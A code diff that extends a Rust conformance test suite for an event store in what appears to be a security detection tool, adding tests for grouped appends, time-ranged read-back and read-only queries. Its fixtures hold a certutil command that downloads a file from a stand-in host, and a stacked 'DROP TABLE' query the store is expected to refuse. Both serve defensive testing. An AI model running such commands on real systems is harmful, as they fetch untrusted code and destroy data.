@@ -1,10 +1,12 @@
 //! The conformance suite of the `EventStore` trait: the same inserts and queries, the
-//! same answers, on every store.
+//! same answers, on every store. Its SQL is the subset that DataFusion and every
+//! ClickHouse version read alike (quoted names, string time literals, `LIKE`,
+//! `fields['key']`).
 
 #![allow(clippy::unwrap_used, clippy::expect_used, dead_code, unreachable_pub)]
 
 use arrow::array::{Array, AsArray, RecordBatch};
-use arrow::datatypes::Int64Type;
+use arrow::datatypes::{Int64Type, UInt64Type};
 use futures::StreamExt;
 use vedette_core::alert::{alerts_to_batch, Alert, DetectionKind, Level};
 use vedette_core::batch::{BusPosition, EventBatch};
@@ -78,7 +80,11 @@ pub async fn rows(store: &dyn EventStore, sql: &str) -> Result<Vec<RecordBatch>,
 pub async fn count(store: &dyn EventStore, sql: &str) -> i64 {
     let batches = rows(store, sql).await.unwrap();
     let b = batches.iter().find(|b| b.num_rows() > 0).unwrap();
-    b.column(0).as_primitive::<Int64Type>().value(0)
+    let c = b.column(0);
+    match c.as_primitive_opt::<Int64Type>() {
+        Some(v) => v.value(0),
+        None => i64::try_from(c.as_primitive::<UInt64Type>().value(0)).unwrap(),
+    }
 }
 
 /// Strings of the first column, in order.
@@ -116,7 +122,7 @@ pub async fn events_are_stored_and_queried(store: &dyn EventStore) {
     assert_eq!(
         count(
             store,
-            "SELECT count(*) FROM events WHERE \"@timestamp\" >= TIMESTAMP '2026-11-21T00:00:00Z'"
+            "SELECT count(*) FROM events WHERE \"@timestamp\" >= '2026-11-21 00:00:00'"
         )
         .await,
         20
@@ -148,6 +154,62 @@ pub async fn redelivery_is_idempotent(store: &dyn EventStore) {
         .await
         .unwrap();
     assert_eq!(count(store, "SELECT count(*) FROM events").await, 60);
+}
+
+/// Batches appended together are stored like batches appended one by one, and a group
+/// holding batches already stored adds only the others.
+pub async fn grouped_appends_are_idempotent(store: &dyn EventStore) {
+    let group = [at(events("g", 10, 2, 0), 1), at(events("h", 10, 2, 0), 2)];
+    store.append_all(Table::Events, &group).await.unwrap();
+    assert_eq!(count(store, "SELECT count(*) FROM events").await, 40);
+    let again = [at(events("h", 10, 2, 0), 2), at(events("i", 10, 2, 0), 3)];
+    store.append_all(Table::Events, &again).await.unwrap();
+    assert_eq!(count(store, "SELECT count(*) FROM events").await, 60);
+    assert_eq!(
+        count(
+            store,
+            "SELECT count(*) FROM events WHERE \"event.id\" LIKE 'h-%'"
+        )
+        .await,
+        20
+    );
+}
+
+/// Events read back for a retro-hunt have the event schema and the span asked for.
+pub async fn events_are_read_back_by_time(store: &dyn EventStore) {
+    store
+        .append(Table::Events, &events("t", 10, 2, 0))
+        .await
+        .unwrap();
+    store
+        .append(Table::Events, &events("u", 10, 2, 1))
+        .await
+        .unwrap();
+    let mut stream = store.read_events(DAY0 + DAY, DAY0 + 2 * DAY).await.unwrap();
+    let mut read = Vec::new();
+    while let Some(b) = stream.next().await {
+        read.push(b.unwrap());
+    }
+    let total: usize = read.iter().map(|b| b.num_rows()).sum();
+    assert_eq!(total, 20);
+    let schema = vedette_core::schema::event_schema();
+    for b in &read {
+        assert_eq!(b.schema().fields(), schema.fields());
+    }
+    let batch = arrow::compute::concat_batches(&schema, &read).unwrap();
+    let events = vedette_core::event_json::events_to_json(&batch).unwrap();
+    let mut ids: Vec<&str> = events
+        .iter()
+        .map(|e| e["event.id"].as_str().unwrap())
+        .collect();
+    ids.sort_unstable();
+    assert_eq!(ids[0], "u-0-0");
+    let certutil = events.iter().find(|e| e["event.id"] == "u-1-5").unwrap();
+    assert_eq!(certutil["host.name"], "host-1");
+    assert_eq!(
+        certutil["fields"]["CommandLine"],
+        "certutil.exe -urlcache -f http://198.51.100.5/x.bin"
+    );
 }
 
 /// Alerts and dead letters have their tables.
@@ -203,6 +265,7 @@ pub async fn queries_are_read_only(store: &dyn EventStore) {
         "INSERT INTO events SELECT * FROM events",
         "DELETE FROM events",
         "SET datafusion.execution.batch_size = 1",
+        "SELECT 1; DROP TABLE events",
     ] {
         let err = rows(store, sql)
             .await
